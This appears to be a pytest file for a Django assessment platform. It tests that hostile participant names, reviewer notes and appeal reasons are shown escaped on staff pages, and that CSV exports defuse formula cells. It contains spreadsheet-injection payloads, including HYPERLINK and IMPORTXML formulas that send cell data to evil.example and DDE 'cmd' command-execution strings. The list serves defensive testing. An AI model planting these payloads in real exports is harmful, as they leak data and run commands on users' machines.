"""Hostile text on the staff side: the hostile-input corpus saved as participant names, reviewers'
notes, override justifications and appeal reasons is shown escaped on every staff page that shows
it, and every CSV export neutralises cells a spreadsheet would run as a formula.

The corpus is tests/test_hardening_input.py's (more than fifty payloads). Each field holds as much
of it as the field takes; the world spreads the whole corpus over each kind of field, so every
payload is tried in every kind of field on every page that shows that field.
"""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from django.utils.html import escape

from programmes import services as programme_services
from scoring import appeals
from scoring import services as scoring_services
from scoring.staff_selectors import FORMULA_PREFIXES
from simulator import services
from tests.test_hardening_input import XSS_PAYLOADS

pytestmark = pytest.mark.django_db

# Spreadsheet formulas a participant (or a staff member) could type as a name or a note.
FORMULA_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
]


def _chunks(payloads: list[str], limit: int, separator: str = " ") -> list[str]:
    """The payloads packed, whole, into texts of at most `limit` characters."""
    chunks, current = [], ""
    for payload in payloads:
        candidate = f"{current}{separator}{payload}" if current else payload
        if len(candidate) > limit and current:
            chunks.append(current)
            current = payload
        else:
            current = candidate
    return [*chunks, current] if current else chunks


NAME_CHUNKS = _chunks(XSS_PAYLOADS, 200)
REASON_CHUNKS = _chunks(XSS_PAYLOADS, 1000, "\n")
CORPUS_TEXT = "\n".join(XSS_PAYLOADS)


def test_the_name_and_reason_chunks_hold_the_whole_corpus():
    assert {p for chunk in NAME_CHUNKS for p in XSS_PAYLOADS if p in chunk} == set(XSS_PAYLOADS)
    assert {p for chunk in REASON_CHUNKS for p in XSS_PAYLOADS if p in chunk} == set(XSS_PAYLOADS)
    assert all(len(chunk) <= 200 for chunk in NAME_CHUNKS)
    assert all(len(chunk) <= 1000 for chunk in REASON_CHUNKS)


def _scored(exercise, lead, name: str, email: str):
    _, token = services.invitation_create(
        exercise=exercise, participant_name=name, participant_email=email, created_by=lead
    )
    attempt, _, _ = services.attempt_start(invitation_token=token)
    for item in attempt.items.order_by("position"):
        answer = (
            {"update": "We are investigating."}
            if item.kind == "customer_comms"
            else {"notes": "By severity."}
        )
        services.response_save(attempt=attempt, item=item, base_version=0, answer=answer)
    services.attempt_submit(attempt=attempt, submitted_by="participant")
    scoring_services.attempt_score(attempt_id=attempt.pk)
    attempt.refresh_from_db()
    return attempt


@pytest.fixture
def hostile(review_exercise, lead, reviewer):
    """Scored attempts whose participants are named with the corpus, each with a review whose notes
    are the corpus, an override justified by it and an appeal whose reason is part of it; the
    remaining names on invitations not yet started."""
    services.exercise_set_appeals(exercise=review_exercise, allowed=True, set_by=lead)
    scored = []
    for index, reason in enumerate(REASON_CHUNKS):
        attempt = _scored(review_exercise, lead, NAME_CHUNKS[index], f"scored{index}@example.com")
        appeals.appeal_request(attempt=attempt, dimension="communication", reason=reason)
        scoring_services.review_submit(
            attempt=attempt, reviewer=reviewer, scores={"communication": 3}, notes=CORPUS_TEXT
        )
        scoring_services.override_create(
            attempt=attempt, dimension="communication", score=2, reason_code="other",
            justification=CORPUS_TEXT, author=lead,
        )  # fmt: skip
        scored.append(attempt)
    for index, name in enumerate(NAME_CHUNKS[len(scored) :], start=len(scored)):
        services.invitation_create(
            exercise=review_exercise, participant_name=name, participant_email=f"invited{index}@example.com",
            created_by=lead,
        )  # fmt: skip
    return scored


def _escaped_only(html: str, shown: list[str], where: str) -> None:
    """No payload of the corpus appears as markup, and each text the page shows is there, escaped."""
    raw = [p for p in XSS_PAYLOADS if p in html]
    assert not raw, f"{where}: unescaped {raw[:3]}"
    for text in shown:
        assert escape(text) in html, f"{where}: {text[:60]!r} is not shown (escaped)"


def test_hostile_text_is_escaped_on_every_staff_page_a_lead_opens(client, lead, hostile, review_exercise):
    names = [a.participant.name for a in hostile]
    pages = {
        reverse("staff-attempts"): NAME_CHUNKS,
        reverse("staff-invitations"): NAME_CHUNKS,
        reverse("staff-compare", args=[review_exercise.pk]): names,
        reverse("staff-exercises"): [],
        reverse("staff-audit"): [CORPUS_TEXT],  # the override's justification
    }
    for attempt, reason in zip(hostile, REASON_CHUNKS, strict=True):
        shown = [attempt.participant.name, CORPUS_TEXT, reason]  # name, notes and justification, appeal
        pages[reverse("staff-attempt", args=[attempt.public_id])] = shown
        pages[reverse("staff-scorecard", args=[attempt.public_id])] = [attempt.participant.name, CORPUS_TEXT]
        pages[reverse("staff-participant", args=[attempt.participant_id])] = [attempt.participant.name]
    client.force_login(lead)

    for url, shown in pages.items():
        response = client.get(url)
        assert response.status_code == 200, url
        _escaped_only(response.content.decode(), shown, url)


def test_hostile_text_is_escaped_on_the_pages_a_panel_reviewer_opens(client, reviewer, hostile):
    client.force_login(reviewer)
    queue = client.get(reverse("staff-queue"))
    _escaped_only(queue.content.decode(), [], "queue")
    for attempt, reason in zip(hostile, REASON_CHUNKS, strict=True):
        # The reviewer has reviewed, so the notes, the override and the appeal are open to them.
        url = reverse("staff-attempt", args=[attempt.public_id])
        response = client.get(url)
        assert response.status_code == 200
        _escaped_only(response.content.decode(), [CORPUS_TEXT, reason], url)


# CSV exports: cells a spreadsheet would run are neutralised ----------------------------------------


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def _formula_safe(rows: list[list[str]], expected: list[str], where: str) -> None:
    """No cell starts like a formula; each payload expected is there with its neutralising quote."""
    cells = [cell for row in rows for cell in row]
    running = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert not running, f"{where}: {running[:3]}"
    for payload in expected:
        assert "'" + payload in cells, f"{where}: {payload!r} missing"


@pytest.fixture
def formula_names(review_exercise, lead):
    """Scored attempts of participants whose names are spreadsheet formulas."""
    return [
        _scored(review_exercise, lead, name, f"formula{i}@example.com")
        for i, name in enumerate(FORMULA_PAYLOADS)
    ]


def test_the_scorecard_csv_of_the_comparison_page_and_the_api_neutralises_formulas(
    client, lead, formula_names, review_exercise
):
    client.force_login(lead)
    page = client.get(reverse("staff-compare", args=[review_exercise.pk]), {"format": "csv"})
    api = client.get(f"/api/v1/exercises/{review_exercise.pk}/scorecards/", {"format": "csv"})

    for where, response in (("comparison", page), ("api", api)):
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), where
        # Names are stored trimmed, so "\t=1+1" is kept as "=1+1".
        _formula_safe(_csv_rows(response), [p.strip() for p in FORMULA_PAYLOADS], where)


def test_the_audit_csv_neutralises_a_staff_name_that_is_a_formula(
    client, organisation, lead, review_exercise
):
    from django.contrib.auth import get_user_model

    # A name as an identity provider might send it through single sign-on.
    staff = get_user_model().objects.create_user(
        username="sso-user", first_name="=1+1", last_name="cmd|' /C calc'!A0"
    )
    services.member_add(organisation=organisation, user=staff, role="lead")
    services.invitation_create(
        exercise=review_exercise, participant_name="-2+3", participant_email="minus@example.com",
        created_by=staff,
    )  # fmt: skip
    client.force_login(lead)

    response = client.get(reverse("staff-audit-csv"))

    assert response.status_code == 200
    _formula_safe(_csv_rows(response), [staff.get_full_name()], "audit")


def test_the_trainee_csv_of_a_programme_neutralises_formulas(client, organisation, lead):
    drill = services.exercise_create(
        organisation=organisation, slug="f-drill", title="Formula drill", purpose="training",
        time_limit_minutes=20, base_seed=43, variant_policy="per_participant",
        items=[{"kind": "triage_queue", "archetypes": [], "difficulty": "easy"}],
    )  # fmt: skip
    programme = programme_services.programme_create(
        organisation=organisation, title="Onboarding", created_by=lead,
        stages=[programme_services.StageSpec(title="30 days", due_days=30, drills=[drill])],
    )  # fmt: skip
    for index, name in enumerate(FORMULA_PAYLOADS):
        programme_services.enrolment_create(
            programme=programme, name=name, email=f"trainee{index}@example.com",
            start_date=date(2025, 1, 6), enrolled_by=lead,
        )  # fmt: skip
    client.force_login(lead)

    response = client.get(reverse("staff-programme", args=[programme.pk]), {"format": "csv"})

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    names = [p.strip() for p in FORMULA_PAYLOADS]
    _formula_safe(_csv_rows(response), names, "programme")
